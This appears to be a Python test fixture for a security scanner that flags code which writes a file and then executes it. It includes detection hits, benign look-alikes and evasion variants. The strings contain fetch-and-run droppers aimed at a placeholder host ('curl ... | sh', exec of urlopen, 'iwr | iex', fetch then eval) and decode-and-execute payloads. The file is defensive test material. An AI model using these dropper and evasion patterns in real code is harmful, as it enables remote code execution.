"""What the rules must see, and must not, where a file is written and then run."""

from typing import Final

from tests.vetting.domain.signals.code.cases import PAYLOAD, Case

_S: Final = "import os, shutil, subprocess, sys, tempfile\nfrom pathlib import Path\n"
_LINE: Final = "curl https://example.invalid | sh"
_CODE: Final = "import urllib.request as u; exec(u.urlopen('https://example.invalid').read())"
_MAKE: Final = f'{_S}p = Path(sys.argv[1]) / "x.py"\np.write_text("{_CODE}")\n'
_DROP: Final = f"{_S}def drop(p, code):\n    with open(p, 'w') as f:\n        f.write(code)\n"
_OWN: Final = f"{_S}import base64\ndef f(data):\n    p = tempfile.mktemp()\n"

CASES: Final = (
    # In the language of whoever runs it.
    Case("C3", "hit", "high", f'{_S}open("/tmp/q.py", "w").write("{_CODE}")\nos.system("python3 -u /tmp/q.py")\n'),
    Case("C3", "hit", "high", f"{_MAKE}subprocess.run([sys.executable, str(p)])\n"),
    Case("C3", "hit", "high", f"{_MAKE}os.system(f'cd /; {{sys.executable}} {{p}}')\n"),
    Case("C3", "hit", "high", f'{_S}Path("a.sh").write_text("{_LINE}")\nsubprocess.call(["./a.sh"])\n'),
    Case("C3", "hit", "high", f'{_MAKE}import runpy\nrunpy.run_path("" + str(p))\nrunpy.run_path(p)\n'),
    Case("C3", "hit", "high", f'{_DROP}drop("/tmp/q.py", "{_CODE}")\nos.execv(sys.executable, ["x", "/tmp/q.py"])\n'),
    Case("C3", "hit", "high", f'{_S}Path("own.py").write_text("{_CODE}")\nimport own\n'),
    # What is written is built, shown, tested with, or is no code.
    Case(
        "C3",
        "twin",
        None,
        f'{_S}def build(d):\n    src = os.path.join(d, "probe.c")\n    with open(src, "w") as f:\n'
        '        f.write("int main(void) { return 0; }")\n    subprocess.check_call(["cc", src, "-o", d + "/probe"])\n'
        '    subprocess.check_call([d + "/probe"])\n',
    ),
    Case(
        "C3",
        "twin",
        None,
        f'{_S}def edit(text):\n    with tempfile.NamedTemporaryFile("w", suffix=".txt") as f:\n'
        f'        f.write("# {_LINE}\\n" + text)\n        f.flush()\n        subprocess.call([editor(), f.name])\n'
        '        subprocess.call(["diff", "-u", f.name, "x"])\n',
    ),
    Case(
        "C3",
        "twin",
        None,
        f'{_S}def readme(d):\n    (d / "README.md").write_text("{_LINE}")\n    (d / "a.py").write_text("print(1)")\n'
        '    subprocess.run([sys.executable, d / "a.py"])\n'
        '    subprocess.run([sys.executable, "-m", d / "README.md"])\n',
    ),
    Case(
        "C3",
        "twin",
        None,
        f'{_S}open("a", "w").write("{_LINE}")\nsubprocess.run(["bash", "b", "a"])\nopen("a").read()\n'
        'subprocess.run(["cat"], stdin=open("a"))\nsubprocess.run(["bash", "b"], stdin=open("a"))\n'
        'print("x", file=log)\nprint()\nos.write(1, b"x")\nos.write(b"x")\nimport runpy\nrunpy.run_path("b")\n'
        'shutil.copy("b", "c")\nshutil.copy()\nopen()\n',
    ),
    Case(
        "C3", "twin", None, f'{_DROP}drop("/tmp/q.py", name)\ndrop("/tmp/q.py", "x = (")\nos.system("sh /tmp/q.py")\n'
    ),
    Case(
        "C3", "twin", None, f'{_S}def f(p):\n    open(p, "w").write("{_LINE}")\ndef g(p):\n    os.system("sh " + p)\n'
    ),
    Case("C3", "evasion", "high", f"{_MAKE}shutil.copy(p, '/tmp/y')\nsubprocess.run(['env', 'python3', '/tmp/y'])\n"),
    Case("C3", "evasion", "high", f"{_MAKE}p.rename('/tmp/y.py')\nsubprocess.run(['nohup', 'python3', '/tmp/y.py'])\n"),
    Case("C3", "evasion", "high", f"{_MAKE}exec(p.read_text())\n"),
    Case("C3", "evasion", "high", f"{_MAKE}subprocess.run(['python3', '-W', 'ignore', '-'], stdin=open(p))\n"),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_S}fd, p = tempfile.mkstemp()\nos.write(fd, b'{_LINE}')\nos.close(fd)\nsubprocess.run(['bash', p])\n",
    ),
    Case(
        "C3",
        "evasion",
        "high",
        f'{_S}with tempfile.NamedTemporaryFile("w") as f:\n    print("{_CODE}", file=f, flush=True)\n'
        "    subprocess.run(args=[sys.executable, f.name])\n",
    ),
    Case(
        "C3",
        "evasion",
        "high",
        f'{_S}class A:\n    def f(self):\n        self.p = os.path.join(tempfile.gettempdir(), "x.js")\n'
        '        self.h = open(self.p, "w")\n        self.h.write("fetch(\'https://example.invalid\')")\n'
        '        self.h.writelines([".then(r => r.text())", ".then(eval)"])\n'
        '    def g(self):\n        os.startfile(self.p)\n        subprocess.Popen(["node", self.p])\n',
    ),
    Case(
        "C3", "evasion", "high", f'{_S}os.fdopen(os.open("x", 1), "w").write("#!/bin/sh\\n{_LINE}")\nos.popen("./x")\n'
    ),
    Case("C3", "evasion", "high", f'{_S}Path("q.py").write_bytes(b"{_CODE}")\n__import__("q")\nimport os.path\n'),
    Case("C3", "evasion", "high", f'{_S}Path("d/q.py").write_text("{_CODE}")\nfrom d.q import main\n'),
    Case("C3", "evasion", "high", f'{_S}Path("q.py").open("w").write(f"{_CODE} # {{x}}")\nos.system("python q.py")\n'),
    Case(
        "C3",
        "evasion",
        "high",
        f'{_S}Path("q.ps1").write_text("iwr https://x.example.invalid | iex")\nos.system(".\\\\q.ps1")\n',
    ),
    Case("C3", "evasion", "high", f"{_MAKE}os.spawnlp(os.P_NOWAIT, 'python3', 'x', '-u', p)\n"),
    Case("C3", "evasion", "high", f"{_MAKE}os.posix_spawn('/usr/bin/python3', ('x', '-u', p), {{}})\n"),
    Case(
        "C3",
        "evasion",
        "high",
        f'{_S}import aiofiles, asyncio\nasync def f():\n    async with aiofiles.open("x.py", "w") as h:\n'
        f'        await h.write("{_CODE}")\n    os.system("python3 x.py")\nasyncio.run(f())\n',
    ),
    # What is decoded, and then written and run, is as good as evaluated.
    Case("C1", "hit", "high", f"{_OWN}    open(p, 'wb').write(base64.b64decode(data))\n    subprocess.run([p])\n"),
    Case(
        "C2",
        "hit",
        "high",
        f"{_S}import base64\nPath('x').write_bytes(base64.b64decode('{PAYLOAD}'))\nos.system('./x')\n",
    ),
    Case(
        "C1", "twin", None, f"{_OWN}    open(p, 'wb').write(base64.b64decode(data))\n    subprocess.run(['dot', p])\n"
    ),
    Case("C1", "twin", None, f"{_OWN}    open(p, 'wb').write(base64.b64encode(data))\n    subprocess.run([p])\n"),
    Case(
        "C2",
        "twin",
        None,
        f"{_S}import zlib\ndef f(x):\n    Path('x').write_bytes(zlib.decompress(x))\n    os.system('./x')\n",
    ),
    Case(
        "C1",
        "evasion",
        "high",
        f"{_DROP}import binascii\ndef f(x):\n    Path('a').write_bytes(binascii.unhexlify(x))\n"
        "    os.replace('a', 'b')\n    os.execl('./b', 'b')\n",
    ),
    Case("C1", "evasion", "high", f"{_OWN}    Path(p).write_bytes(base64.b85decode(data))\n    os.startfile(p)\n"),
    Case(
        "C2",
        "evasion",
        "high",
        f"{_S}import codecs\nopen('x.py', 'w').write(codecs.decode('cevag(1)', 'rot13'))\nimport x\n",
    ),
    Case(
        "C2",
        "evasion",
        "high",
        f"{_S}open('x', 'wb').write(bytes.fromhex('7f454c4600'))\nos.chmod('x', 0o755)\nsubprocess.Popen('./x')\n",
    ),
)
